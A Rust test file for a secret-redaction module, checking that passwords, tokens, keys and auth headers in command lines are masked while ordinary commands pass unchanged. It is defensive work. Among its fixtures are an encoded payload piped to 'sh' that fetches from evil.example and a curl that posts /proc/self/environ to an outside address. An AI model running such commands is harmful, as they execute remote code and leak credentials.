use super::*;

const SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

/// Secret shapes: the input, what must be left, and the secret that must be gone.
const SECRETS: &[(&str, &str, &str)] = &[
    // The shapes issue 17 lists.
    (
        r#"python3 -c print({"password":"hunter2","user":"bob"})"#,
        r#"python3 -c print({"password":"[REDACTED]","user":"bob"})"#,
        "hunter2",
    ),
    (
        r#"echo {"api_key": "abc123", "n": 1}"#,
        r#"echo {"api_key": "[REDACTED]", "n": 1}"#,
        "abc123",
    ),
    (
        "curl -u admin:s3cret https://example.com/x",
        "curl -u admin:[REDACTED] https://example.com/x",
        "s3cret",
    ),
    (
        "curl -uadmin:s3cret https://example.com/x",
        "curl -uadmin:[REDACTED] https://example.com/x",
        "s3cret",
    ),
    (
        "curl --user=admin:s3cret https://example.com/x",
        "curl --user=admin:[REDACTED] https://example.com/x",
        "s3cret",
    ),
    (
        "mysql -h db -uapp -pSECRETpw app",
        "mysql -h db -uapp -p[REDACTED] app",
        "SECRETpw",
    ),
    (
        "/usr/bin/mysqldump -pSECRETpw app",
        "/usr/bin/mysqldump -p[REDACTED] app",
        "SECRETpw",
    ),
    (
        "wget https://x.example/a?user=bob&token=abc123&v=2",
        "wget https://x.example/a?user=bob&token=[REDACTED]&v=2",
        "abc123",
    ),
    (
        "sh -c MODE=1;PASSWORD=hunter2;run",
        "sh -c MODE=1;PASSWORD=[REDACTED];run",
        "hunter2",
    ),
    (
        "curl -H Authorization:Bearer abc.def.ghi https://x",
        "curl -H Authorization:Bearer [REDACTED] https://x",
        "abc.def.ghi",
    ),
    (
        "curl -H Authorization: Bearer abc.def.ghi https://x",
        "curl -H Authorization: Bearer [REDACTED] https://x",
        "abc.def.ghi",
    ),
    (
        "curl -H Authorization:bearer:abc123 https://x",
        "curl -H Authorization:bearer:[REDACTED] https://x",
        "abc123",
    ),
    (
        "curl -H Authorization: Basic dXNlcjpwdw== https://x",
        "curl -H Authorization: Basic [REDACTED] https://x",
        "dXNlcjpwdw",
    ),
    (
        "tool --key 9f86d081884c7d659a2feaa0c55ad015",
        "tool --key [REDACTED]",
        "9f86d081884c7d659a2feaa0c55ad015",
    ),
    (
        "client 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
        "client [REDACTED]",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
    ),
    (
        "client --id 123e4567-e89b-12d3-a456-426614174000",
        "client --id [REDACTED]",
        "426614174000",
    ),
    // Secret scanners' common shapes.
    (
        "aws s3 cp x s3://b --key AKIAIOSFODNN7EXAMPLE",
        "aws s3 cp x s3://b --key [REDACTED]",
        "AKIAIOSFODNN7EXAMPLE",
    ),
    (
        "echo ASIAIOSFODNN7EXAMPLE,done",
        "echo [REDACTED],done",
        "ASIAIOSFODNN7EXAMPLE",
    ),
    (
        "echo wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "echo [REDACTED]",
        SECRET,
    ),
    (
        "git clone https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r",
        "git clone https://[REDACTED]@github.com/o/r",
        "ghp_abcdefghij",
    ),
    (
        "echo gho_abcdefghijklmnopqrstuvwxyz",
        "echo [REDACTED]",
        "gho_abcdefghij",
    ),
    (
        "echo github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz",
        "echo [REDACTED]",
        "github_pat_11",
    ),
    (
        "post xoxb-123456789012-abcdefghij",
        "post [REDACTED]",
        "xoxb-123",
    ),
    (
        "echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
        "echo [REDACTED]",
        "eyJhbGci",
    ),
    (
        "echo -----BEGIN RSA PRIVATE KEY----- MIIEowIBAAKCAQEA -----END RSA PRIVATE KEY-----",
        "echo -----BEGIN RSA PRIVATE KEY-----[REDACTED]-----END RSA PRIVATE KEY-----",
        "MIIEowIBAAKCAQEA",
    ),
    (
        "echo -----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXk",
        "echo -----BEGIN OPENSSH PRIVATE KEY-----[REDACTED]",
        "b3BlbnNzaC1rZXk",
    ),
    (
        "curl https://user:pa55@host.example/path",
        "curl https://user:[REDACTED]@host.example/path",
        "pa55",
    ),
    (
        "psql postgres://app:pa55@db:5432/app",
        "psql postgres://app:[REDACTED]@db:5432/app",
        "pa55",
    ),
    (
        "pay --api sk_live_abcdefghij0123",
        "pay --api [REDACTED]",
        "sk_live_abc",
    ),
    (
        "maps AIzaSyA-abcdefghijklmnopqrstuvwxyz01234",
        "maps [REDACTED]",
        "AIzaSyA",
    ),
    (
        "mysql --password=hunter2 --user app",
        "mysql --password=[REDACTED] --user app",
        "hunter2",
    ),
    (
        "mysql --password hunter2 --user app",
        "mysql --password [REDACTED] --user app",
        "hunter2",
    ),
    (
        "cli --token abc123 run",
        "cli --token [REDACTED] run",
        "abc123",
    ),
    (
        "tool --api-key=abc123 run",
        "tool --api-key=[REDACTED] run",
        "abc123",
    ),
    (
        "env SECRET=x1 TOKEN=x2 API_KEY=x3 MODE=fast",
        "env SECRET=[REDACTED] TOKEN=[REDACTED] API_KEY=[REDACTED] MODE=fast",
        "x1",
    ),
    (
        "env AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI DB_PASSWORD=hunter2",
        "env AWS_SECRET_ACCESS_KEY=[REDACTED] DB_PASSWORD=[REDACTED]",
        "hunter2",
    ),
    (
        "sh -c echo ZWNobyAiaGVsbG8gd29ybGQiOyBjdXJsIGh0dHA6Ly9ldmlsLmV4YW1wbGUvc2gK|base64 -d|sh",
        "sh -c echo [REDACTED]|base64 -d|sh",
        "ZWNobyAi",
    ),
    (
        "curl -H Cookie: sid=abc123 https://x",
        "curl -H Cookie: [REDACTED] https://x",
        "abc123",
    ),
];

/// Ordinary command lines and paths: must come out unchanged. Short hex (git short hashes,
/// up to 31 digits) stays; 32 digits and more of one-case hex is taken for a key.
const ORDINARY: &[&str] = &[
    "/var/lang/bin/python3.12 -m awslambdaric handler.handler",
    "/usr/lib/python3/dist-packages/some_package/long_module_name.py --verbose",
    "/var/task/node_modules/some-library/dist/index.min.js",
    "sort -k2 -t, /tmp/report-2024-01-01.csv",
    "curl https://example.com/x",
    "curl -sS -o /tmp/out.json https://api.example.com/v1/items?page=2&limit=50",
    "grep -n foo /var/task/app.py",
    "gzip -6 -c",
    "sleep 30",
    "head -c 1048576 /dev/urandom",
    "git show 3f2a9c1",
    "git log --oneline 3f2a9c1d8e7b6a5f",
    "ssh -p 2222 host.example",
    "mkdir -p /tmp/work/a",
    "tar -xzf /tmp/layer.tgz -C /tmp/x",
    "ls -la /tmp",
    "git commit --author=Bob -m fix",
    "python3 train.py --tokenizer=bert --keyboard us",
    "openssl req -key-file /etc/ssl/key.pem",
    "ps -u sbx_user1051",
    "docker run -u 1000:1000 image",
    "uname -a",
    "id",
    "find / -name x.conf",
    "awk -F: {print $1} /etc/passwd",
    "node /var/task/index.js --port=8080 --mode=fast",
    "echo 12345678901234567890123456789012345",
    "cat /etc/hosts",
];

#[test]
fn every_secret_shape_is_redacted() {
    let mut missed = Vec::new();
    for (input, want, secret) in SECRETS {
        let got = redact(input).text;
        if got != *want || got.contains(secret) {
            missed.push(format!("{input}\n   got  {got}\n   want {want}"));
        }
    }
    assert!(
        missed.is_empty(),
        "{} missed:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

#[test]
fn ordinary_text_is_unchanged() {
    let false_redactions: Vec<String> = ORDINARY
        .iter()
        .map(|t| (t, redact(t).text))
        .filter(|(t, got)| got != **t)
        .map(|(t, got)| format!("{t}\n   got {got}"))
        .collect();
    assert_eq!(
        false_redactions.len(),
        0,
        "false redactions:\n{}",
        false_redactions.join("\n")
    );
    for t in ORDINARY {
        assert!(!redact(t).credential_hint, "{t}");
    }
}

#[test]
fn a_secret_is_redacted_before_the_text_is_cut() {
    let text = format!("{}AKIAIOSFODNN7EXAMPLE", "x ".repeat(120));
    let r = redact_evidence(&text);
    assert!(!r.text.contains("AKIAIOSF"), "{}", r.text);
    assert!(r.text.len() <= EVIDENCE_MAX);
    // A cut never splits the marker.
    assert!(
        r.text.ends_with(REDACTED) || !r.text.contains('['),
        "{}",
        r.text
    );
    let long = format!("--password={}", "p".repeat(500));
    assert_eq!(redact_evidence(&long).text, "--password=[REDACTED]");
}

#[test]
fn truncation_never_splits_a_marker_or_a_character() {
    let mut s = format!("{}{REDACTED}", "a".repeat(250));
    truncate(&mut s, 256);
    assert_eq!(s, "a".repeat(250));
    let mut s = "é".repeat(200);
    truncate(&mut s, 255);
    assert_eq!(s.len(), 254);
}

#[test]
fn access_key_ids_and_credential_names_are_hints() {
    assert!(redact("echo ASIAIOSFODNN7EXAMPLE,done").credential_hint);
    assert!(redact("printenv AWS_SESSION_TOKEN").credential_hint);
}

#[test]
fn reading_the_environment_through_proc_is_a_hint() {
    let r = redact("curl --data-binary @/proc/self/environ http://10.0.0.1:8080/");
    assert!(r.credential_hint);
    assert!(r.text.contains("/proc/self/environ"));
    assert!(redact("cat /proc/1/environ").credential_hint);
}

#[test]
fn odd_input_neither_panics_nor_grows_unbounded() {
    for text in [
        "",
        "=",
        ":",
        "\"",
        "pw=",
        "\"password\":\"",
        "\"password\":\"\\",
        "-----BEGIN ",
        "-----BEGIN PRIVATE KEY-----",
        "bearer",
        "Bearer ",
        "https://",
        "https://@:",
        "eyJ0000000000.",
        "mysql -p",
        "curl -u",
        "é=é:é pw=é",
    ] {
        let r = redact(text);
        assert!(r.text.len() <= 6 * text.len() + REDACTED.len(), "{text}");
    }
    let many = "pw=x;".repeat(1000);
    assert!(redact(&many).text.len() <= 6 * many.len());
}

#[test]
fn repeated_separators_stay_linear() {
    // Each of these made every separator scan to the end of the text (quadratic).
    for unit in [
        "pw=",
        "\"pw\":",
        "bearer:",
        "Authorization:bearer:",
        "-----BEGIN ",
    ] {
        let text = unit.repeat(20_000);
        let started = std::time::Instant::now();
        let r = redact(&text);
        assert!(r.text.len() <= 6 * text.len());
        assert!(
            started.elapsed() < std::time::Duration::from_secs(2),
            "{unit}: {:?}",
            started.elapsed()
        );
    }
}
